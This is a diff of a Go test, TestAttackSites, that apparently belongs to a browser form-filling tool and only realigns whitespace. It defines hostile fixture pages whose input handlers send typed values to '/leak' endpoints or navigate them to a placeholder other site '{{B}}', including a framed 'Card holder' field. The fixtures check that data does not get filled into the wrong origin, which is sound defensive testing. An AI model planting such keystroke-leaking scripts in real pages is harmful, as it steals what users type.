@@ -169,7 +169,7 @@ func TestAttackSites(t *testing.T) {
 	h := newHostile(t, map[string]string{
 		// The field appears only on the other site, after a navigation
 		// the page starts while Fill waits for it.
-		"/late-nav": `<!doctype html><title>late</title><script>setTimeout(() => { location.href = '{{B}}/catch-name'; }, 300);</script>`,
+		"/late-nav":   `<!doctype html><title>late</title><script>setTimeout(() => { location.href = '{{B}}/catch-name'; }, 300);</script>`,
 		"/catch-name": `<!doctype html><label>Name <input id=n oninput="fetch('/leak?v=' + this.value)"></label>`,
 		// Typing into the field navigates to the other site.
 		"/input-nav": `<!doctype html><label>Name <input id=n oninput="location.href = '{{B}}/caught?v=' + this.value"></label>`,
@@ -179,7 +179,7 @@ func TestAttackSites(t *testing.T) {
 <ul role=listbox id=lb><li role=option onclick="location.href='{{B}}/caught-option'">Pro</li><li role=option>Basic</li></ul>`,
 		// A granted page framing the other site, whose srcdoc frame
 		// inherits its origin.
-		"/frames":     `<!doctype html><p>top</p><iframe src="{{B}}/srcdoc-host" width=600 height=300></iframe>`,
+		"/frames":      `<!doctype html><p>top</p><iframe src="{{B}}/srcdoc-host" width=600 height=300></iframe>`,
 		"/srcdoc-host": `<!doctype html><iframe width=500 height=200 srcdoc="<label>Card holder <input oninput=&quot;fetch('/leak-srcdoc?v=' + this.value)&quot;></label>"></iframe>`,
 	})
 	t.Run("navigation while waiting", func(t *testing.T) {
